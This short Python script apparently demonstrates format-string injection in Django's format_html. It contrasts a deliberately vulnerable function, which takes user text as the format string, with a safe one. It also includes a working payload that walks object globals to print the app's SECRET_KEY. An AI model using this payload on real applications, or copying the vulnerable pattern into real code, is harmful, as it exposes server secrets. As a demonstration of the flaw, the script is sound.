"""Django's format_html: a seller's text as the format string, and as a value."""

from django.conf import settings
from django.utils.html import format_html

settings.configure(SECRET_KEY="b7f3-31aa")


def greet(text: str, name: str) -> str:
    return format_html(text, name)


def greet_safely(text: str, name: str) -> str:
    return format_html("{} {}", text, name)


if __name__ == "__main__":
    to_modules = "{0.__html__.__globals__[__loader__].get_data.__globals__[sys].modules"
    template = f"{to_modules}[django.conf].settings.SECRET_KEY}}"
    print(greet(template, "Zoe"))
    print(greet_safely(template, "Zoe"))
